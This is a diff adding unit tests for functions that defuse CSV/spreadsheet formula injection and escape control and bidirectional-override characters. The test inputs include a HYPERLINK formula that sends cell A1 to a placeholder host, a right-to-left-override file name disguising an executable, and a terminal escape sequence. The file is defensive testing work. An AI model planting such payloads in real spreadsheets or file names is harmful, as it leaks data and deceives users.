@@ -1,0 +1,29 @@
+import { formulaSafe, safeCellText, visibleControls } from "../../src/i18n/safeText";
+import { quote } from "../../src/i18n/messages";
+
+describe("formulaSafe (OWASP CSV injection)", () => {
+  it.each(["=1+2", "+31 Amsterdam", "-2025", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.test/?"&A1,"klik")'])("prefixes %j with a quote", (text) => {
+    expect(formulaSafe(text)).toBe(`'${text}`);
+  });
+  it.each(["Klant A", "2025", "€ 100", " =1", "'al tekst", ""])("leaves %j alone", (text) => {
+    expect(formulaSafe(text)).toBe(text);
+  });
+});
+
+describe("visibleControls", () => {
+  it("writes ESC, bidi overrides, isolates and zero-width characters as \\uXXXX", () => {
+    expect(visibleControls("\u001B[2Jweg")).toBe("\\u001B[2Jweg");
+    expect(visibleControls("factuur\u202Efdp.exe")).toBe("factuur\\u202Efdp.exe");
+    expect(visibleControls("a\u2066b\u2069c\u200Bd\u0000e\u0085f")).toBe("a\\u2066b\\u2069c\\u200Bd\\u0000e\\u0085f");
+  });
+  it("keeps accents, the euro sign and emoji (with their joiner)", () => {
+    const text = "Café € 👩‍💻 Zoë";
+    expect(visibleControls(text)).toBe(text);
+  });
+  it("is applied to cell text quoted in messages", () => {
+    expect(quote("12\u202E34")).toBe('"12\\u202E34"');
+  });
+  it("leaves no tab to start a formula after escaping", () => {
+    expect(safeCellText("\t=1")).toBe("\\u0009=1");
+  });
+});
